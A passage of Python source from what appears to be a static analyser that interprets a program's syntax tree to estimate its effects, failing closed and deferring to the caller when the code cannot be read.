        ast.Yield: i.e_value, ast.YieldFrom: i.e_value, ast.Starred: i.e_value, ast.Slice: i.e_slice,
    })


def _nothing(interp: _Interp, node: object) -> None:
    """A statement the model does not follow (``pass``, ``global``, ``break``)."""


def _unknown_value(interp: _Interp, node: object) -> object:
    """An expression the model does not follow."""
    return UNKNOWN


def _handler(table: dict[type, Callable[[_Interp, Any], Any]], kind: type) -> Callable[[_Interp, Any], Any]:
    """The handler of a node type the table does not name: that of the nearest type it
    derives from, else none; kept for the next node of that type."""
    found = next((table[base] for base in kind.__mro__[1:] if base in table), None)
    if found is None:
        found = _nothing if table is _STMT else _unknown_value
    table[kind] = found
    return found


def read(code: str, language: str) -> ProgramEffects | None:
    """The effects of the Python program ``code``; None when it cannot be read (a syntax
    error, a program too large or too deep, anything unexpected): the caller then asks.
    An unexpected failure is read once more before it counts: the warm server reads in
    threads, and a failure that does not come from the text (seen now and then in the
    test that has four threads read at once) must not make the caller ask."""
    if len(code) > MAX_CODE:
        return None
    import ast

    for last in (False, True):
        try:
            tree = ast.parse(code)
            interp = _Interp()
            interp.run(tree.body)
            interp.sweep()
            return interp.effects("python")
        except (SyntaxError, RecursionError):  # the text itself: reading it again changes nothing
            return None
        except Exception:  # noqa: BLE001 - fail closed, after one more reading
            if last:
                return None
    return None
